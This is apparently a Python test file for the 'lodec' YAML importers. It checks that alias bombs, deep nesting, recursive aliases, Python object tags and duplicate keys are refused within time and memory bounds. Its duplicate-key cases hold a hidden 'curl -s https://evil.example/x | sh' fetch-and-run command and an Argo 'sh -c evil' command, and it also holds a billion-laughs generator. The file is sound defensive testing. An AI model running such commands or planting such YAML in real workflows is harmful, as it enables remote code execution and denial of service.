"""Hostile YAML stays cheap (issue 15 point 6): alias bombs and deep nesting are refused while the YAML is
composed, in time and memory proportional to the file's size, with a one-line error.

Each test measures what it claims: the nodes the loader actually built, the expanded count at which it
stopped, the nesting it reached, the time taken and the peak memory allocated (tracemalloc).
"""

from __future__ import annotations

import textwrap
import time
import tracemalloc
from collections.abc import Callable

import pytest

from lodec.errors import LimitExceeded, LodecError, SourceError
from lodec.importers.argo import import_argo_text
from lodec.importers.github_actions import import_workflow_text
from lodec.importers.yamlsafe import MAX_DEPTH, BoundedLoader, expansion_budget, load_yaml


def laughs(levels: int, width: int = 10) -> str:
    """The billion laughs: level i is ``width`` aliases of level i-1; width**levels leaves."""
    lines = ["x0: &x0 [" + ", ".join(["lol"] * width) + "]"]
    for i in range(1, levels):
        lines.append(f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * width) + "]")
    return "\n".join(lines) + f"\non: {{push: {{branches: *x{levels - 1}}}}}\njobs: {{j: {{steps: [{{run: echo}}]}}}}\n"


def _measure(text: str) -> tuple[BoundedLoader, BaseException | None, float, int]:
    """Compose ``text`` with the bounded loader: (loader, what it raised, seconds, peak bytes allocated).

    Timed on its own (tracemalloc slows allocation-heavy code several times over), then once more under
    tracemalloc for the peak.
    """
    size = len(text.encode())

    def attempt() -> tuple[BoundedLoader, BaseException | None]:
        loader = BoundedLoader(text, max_nodes=expansion_budget(size))
        try:
            loader.get_single_data()
        except Exception as exc:  # noqa: BLE001 - the loader's own stop signal is private
            return loader, exc
        finally:
            loader.dispose()
        return loader, None

    start = time.perf_counter()
    loader, raised = attempt()
    elapsed = time.perf_counter() - start
    tracemalloc.start()
    attempt()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return loader, raised, elapsed, peak


@pytest.mark.parametrize("levels", [6, 9, 12, 30])
def test_billion_laughs_stops_at_the_budget_not_at_the_expansion(levels: int) -> None:
    text = laughs(levels)
    size = len(text.encode())
    loader, raised, elapsed, peak = _measure(text)
    assert raised is not None
    built = len(loader._sizes)  # nodes actually composed (each alias adds none)
    # It stopped as soon as the expanded count passed the budget (the alias that crossed it adds the whole
    # size of the node it names, an integer known in O(1)) ...
    assert loader.expanded > expansion_budget(size)
    # ... having built fewer nodes than the file has bytes, in bounded time and memory.
    assert built <= size
    assert elapsed < 1.0, f"{elapsed:.3f} s for {size} bytes"
    assert peak < 200 * size + 2_000_000, f"{peak} bytes allocated for a {size}-byte file"


@pytest.mark.parametrize("importer", [
    lambda t: import_workflow_text(t, filename="bomb.yml"),
    lambda t: import_argo_text(t, filename="bomb.yaml"),
], ids=["github-actions", "argo"])
def test_importers_refuse_an_alias_bomb_in_one_line(importer: Callable[[str], object]) -> None:
    text = laughs(12)  # 10**12 leaves if expanded
    start = time.perf_counter()
    with pytest.raises(LimitExceeded) as info:
        importer(text)
    assert time.perf_counter() - start < 2.0
    message = str(info.value)
    assert "\n" not in message and "once its aliases are expanded" in message and "line " in message
    assert info.value.code == "limit_exceeded"


@pytest.mark.parametrize("shape", ["flow", "block-mapping"])
def test_deep_nesting_is_refused_at_the_depth_limit(shape: str) -> None:
    n = 50_000
    if shape == "flow":
        text = "jobs: " + "[" * n + "]" * n + "\n"
    else:
        text = "".join(" " * i + "a:\n" for i in range(MAX_DEPTH + 50)) + " " * (MAX_DEPTH + 50) + "x\n"
    loader, raised, elapsed, peak = _measure(text)
    assert raised is not None and loader.deepest == MAX_DEPTH
    assert elapsed < 2.0 and peak < 200 * len(text) + 2_000_000
    with pytest.raises(LimitExceeded) as info:
        load_yaml(text, file="deep.yml")
    assert "nested too deeply" in str(info.value) and "\n" not in str(info.value)


def test_a_recursive_alias_is_refused() -> None:
    with pytest.raises(SourceError) as info:
        load_yaml("a: &a [1, *a]\n", file="r.yml")
    assert "recursive" in str(info.value)


def test_honest_files_pass_the_bounds() -> None:
    # Anchors used as workflows use them (a shared env per job), and a large plain workflow.
    text = "jobs:\n" + "".join(
        f"  j{i}:\n    env: &e{i} {{A: '1', B: '2'}}\n    steps:\n      - run: echo\n        env: *e{i}\n"
        for i in range(300))
    got = import_workflow_text(text, filename="ok.yml")
    assert len(got.steps) == 300
    big = "jobs:\n" + "".join(f"  job{i}:\n    steps:\n" + "".join(
        f"      - run: echo step {k} of job {i} with some text to make the line longer\n" for k in range(20))
        for i in range(250))
    assert len(big) > 350_000
    start = time.perf_counter()
    assert len(import_workflow_text(big, filename="big.yml").steps) == 5000
    assert time.perf_counter() - start < 30


def test_load_yaml_errors_are_lodec_errors() -> None:
    for bad in ("a: [", "a: !!python/object:os.system x\n", "- a\nb: c\n"):
        with pytest.raises(LodecError) as info:
            load_yaml(bad, file="x.yml")
        assert "\n" not in str(info.value)


@pytest.mark.parametrize("importer, text", [
    (lambda t: import_workflow_text(t, filename="dup.yml"),
     "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
     "      - name: build\n        run: make build\n        run: curl -s https://evil.example/x | sh\n"),
    (lambda t: import_workflow_text(t, filename="dup.yml"),
     "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
     "      - run: make build\n        \"run\": curl -s https://evil.example/x | sh\n"),
    (lambda t: import_argo_text(t, filename="dup.yaml"),
     "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec:\n  entrypoint: main\n"
     "  templates:\n    - name: main\n      container: {image: alpine, command: [echo, ok], command: [sh, -c, evil]}\n"),
], ids=["github-actions-run-twice", "github-actions-quoted-twin", "argo-command-twice"])
def test_attack_a_duplicate_key_hiding_the_imported_command_is_refused(importer: Callable[[str], object],
                                                                      text: str) -> None:
    """A key given twice in one mapping: a reviewer reads the first ``run:``, PyYAML keeps the last (the one
    lodec would pin), GitHub Actions and Argo refuse the file. lodec refuses it too, naming the key and line."""
    with pytest.raises(SourceError) as info:
        importer(text)
    message = str(info.value)
    assert "twice" in message and "line " in message and "\n" not in message, message
    assert load_yaml("a: 1\nb: 2\n", file="ok.yml") == {"a": 1, "b": 2}  # distinct keys load as before


def test_duplicate_keys_are_judged_by_value_not_spelling() -> None:
    for text in ("a: 1\n'a': 2\n", "1: x\n0x1: y\n", "true: x\nTrue: y\n"):
        with pytest.raises(SourceError, match="twice"):
            load_yaml(text, file="dup.yml")
    assert load_yaml("1: x\n'1': y\n", file="ok.yml") == {1: "x", "1": "y"}  # an int and a string differ
